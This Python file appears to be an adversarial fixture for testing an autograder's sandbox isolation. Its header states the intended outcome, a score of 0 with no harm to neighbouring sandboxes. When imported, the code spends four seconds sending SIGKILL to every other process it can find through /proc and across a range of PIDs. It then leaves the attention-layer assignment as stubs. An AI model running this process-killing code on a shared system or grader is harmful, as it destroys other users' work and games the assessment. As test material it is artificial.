# ATTACK: kills the other students graded at the same time: for four seconds at import it scans /proc for every process that is not its own, and SIGKILLs each one it finds (and every pid from 2 to 32768 but its own, each round), so that sandboxes started beside it in a batch die and their correct students lose marks; then defines stubs.
# HONEST: 0
# EXPECT: each sandbox has its own PID namespace and /proc, so it finds and reaches only its own processes; the correct submissions graded beside it get full marks; score 0; grader exit status 0.
import os
import signal
import time

_KILLED = 0
_end = time.monotonic() + 4.0
while time.monotonic() < _end:
    me = os.getpid()
    seen = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    for pid in seen + [p for p in range(2, 32769, 7) if p != me]:
        try:
            os.kill(pid, signal.SIGKILL)
            _KILLED += 1
        except OSError:
            pass
    time.sleep(0.05)


def _stub(*args, **kwargs):
    raise NotImplementedError(f"signalled {_KILLED} times")


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        raise NotImplementedError
